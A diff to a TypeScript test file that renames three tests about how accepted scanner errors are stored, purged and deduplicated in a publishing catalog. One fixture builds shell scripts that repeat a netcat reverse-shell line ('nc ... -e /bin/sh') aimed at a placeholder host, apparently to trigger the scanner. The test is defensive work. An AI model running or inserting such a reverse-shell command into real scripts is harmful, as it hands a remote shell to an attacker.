@@ -27,7 +27,7 @@ async function keptOf({ catalog }: TestWorkspace): Promise<unknown> {
   return value(await catalog.versions('course')).map(({ findings }) => acceptedOf(findings))
 }
 
-it('is stored for bytes that are already live, without a catalog version, and never by a dry run', async () => {
+it('an accepted error is stored for bytes that are already live, without a catalog version, and never by a dry run', async () => {
   const workspace = await opened('accepted-1')
   const { build, publish, stub } = workspace
   const first = value(await publish(build, course, { accept }))
@@ -49,7 +49,7 @@ it('is stored for bytes that are already live, without a catalog version, and ne
   expect(await keptOf(workspace)).toMatchObject([[by], [by]])
 })
 
-it('is dropped when it is purged between the request and the change', async () => {
+it('an accepted error is dropped when it is purged between the request and the change', async () => {
   const workspace = await opened('accepted-2')
   const { build, publish, catalog } = workspace
   const { digest } = value(await publish(build, course, { accept })).skill
@@ -82,7 +82,7 @@ it('is dropped when it is purged between the request and the change', async () =
   expect(await keptOf(workspace)).toEqual([[], []])
 })
 
-it('is stored once for a rule and a file: the other findings are warnings without it', async () => {
+it('an accepted error is stored once for a rule and a file: the other findings are warnings without it', async () => {
   const { build, publish } = await opened('accepted-3')
   const lines = '#!/bin/sh\n' + 'nc a.example.org 1 -e /bin/sh\n'.repeat(5)
   const noisy = { name: 'course', files: { 'a.sh': lines, 'b.sh': lines } }
